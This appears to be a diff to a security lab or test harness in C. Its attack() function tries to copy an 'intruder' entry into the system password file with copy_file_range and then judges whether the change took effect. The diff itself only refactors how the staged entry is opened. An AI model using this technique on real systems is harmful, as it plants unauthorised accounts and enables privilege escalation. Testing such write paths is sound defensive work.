@@ -14,13 +14,10 @@ void attack(void)
 {
 	const struct kept kept = keep(PASSWD);
 	int fd = open(PASSWD, O_WRONLY | O_CLOEXEC), error = 0;
-	int from;
 
 	if (fd < 0)
 		no_effect(errno);
-	drop_text(INTRUDER_ENTRY, "/tmp/lab-copy");
-	from = open("/tmp/lab-copy", O_RDONLY | O_CLOEXEC);
-	if (copy_file_range(from, NULL, fd, NULL, 16, 0) != 16)
+	if (copy_file_range(open_entry("/tmp/lab-copy"), NULL, fd, NULL, 16, 0) != 16)
 		error = errno;
 	judge_change(&kept, error);
 }
